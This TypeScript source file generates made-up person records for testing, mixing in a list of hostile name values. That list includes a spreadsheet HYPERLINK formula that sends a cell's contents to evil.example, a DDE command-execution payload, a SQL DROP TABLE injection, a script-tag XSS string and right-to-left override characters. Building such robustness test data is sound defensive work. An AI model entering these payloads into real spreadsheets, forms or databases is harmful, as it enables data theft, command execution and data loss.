import { Random } from './random.js';

const FIRST = [
  'Avel', 'Brin', 'Corlo', 'Dasha', 'Elwen', 'Fenno', 'Gisla', 'Harro', 'Ilsa', 'Jorun', 'Kaya', 'Lior', 'Mirel', 'Nadim',
  'Orla', 'Pavi', 'Quill', 'Renske', 'Soraya', 'Tamsin', 'Ulf', 'Vesna', 'Wim', 'Xanthe', 'Yorick', 'Zélie', 'Åsa', 'Ngozi',
  'Chi-Lin', 'María José',
]; // prettier-ignore
const LAST = [
  'Abernette', 'Brookvale', 'Calloway-Finch', 'Dunmarrow', 'Eastwick', 'Farrowby', 'Glenhollow', 'Harkwell', 'Inglemoor',
  'Jessamy', 'Kirkbride', 'Lanterman', 'Marchbank', 'Nettlefold', 'Oakhanger', 'Pennywhistle', 'Quillfeather', 'Ravensmoor',
  'Silverdale', 'Thornbury', 'Underhill', 'Vantongeren', 'Wetherfold', 'Yellowlees', "O'Zephyr", 'de la Brume', 'Müllerin',
]; // prettier-ignore

/** Names as a public form may bring them: formulas, separators, quotes, line ends, right-to-left, invisible, very long. */
export const HOSTILE_NAMES: readonly string[] = [
  '=HYPERLINK("https://evil.example/?x="&A1,"Click me")',
  "+1+cmd|' /C calc'!A0",
  '-2+3',
  '@SUM(1+1)*9',
  '=1+1',
  '\t=1+1',
  'Smith, Jr.',
  'Ann "Quote" Lee',
  "Robert'); DROP TABLE person;--",
  'two\nlines',
  'carriage\r\nreturn',
  '<script>alert(1)</script>',
  '名前',
  'עִבְרִית',
  '\u202Etxet desrever',
  'zero\u200Bwidth',
  '😀👩‍👩‍👧',
  'null',
  'TRUE',
  '00123',
  '1E5',
  '2026-01-01',
  '  spaces  ',
  '\u0007bell',
  'L'.repeat(400),
];

/** A person as Slate holds one; null is a cell that was never filled. */
export interface PersonText {
  readonly first: string | null;
  readonly last: string | null;
  readonly email: string | null;
  readonly city: string | null;
}

const CITIES = ['Northfold', 'Eastmere', 'Wellspring', 'Harbour Point', 'São Vento'];
/** Every so many humans the next hostile name, so that an office of some thousands has them all. */
const HOSTILE_EVERY = 250;
const MISSING_SHARE = 0.004;

/** @returns made-up text for a human; records of the same human get the same */
export function personText(seed: number, human: number): PersonText {
  const random = new Random(seed ^ 0x5eed, human);
  const first = FIRST[random.below(FIRST.length)];
  const last = LAST[random.below(LAST.length)];
  const turn = Math.floor(human / HOSTILE_EVERY) % HOSTILE_NAMES.length;
  const hostile = human % HOSTILE_EVERY === 7 ? HOSTILE_NAMES[turn] : null;
  const email = `${first}.${last}.${human}@mail.example`.toLowerCase().replaceAll(/[^a-z0-9.@]/g, '');
  return {
    first: hostile ?? (random.chance(MISSING_SHARE) ? null : first),
    last: hostile !== null && random.chance(0.5) ? hostile : random.chance(MISSING_SHARE) ? null : last,
    email: random.chance(0.02) ? null : email,
    city: random.chance(0.1) ? null : CITIES[random.below(CITIES.length)],
  };
}
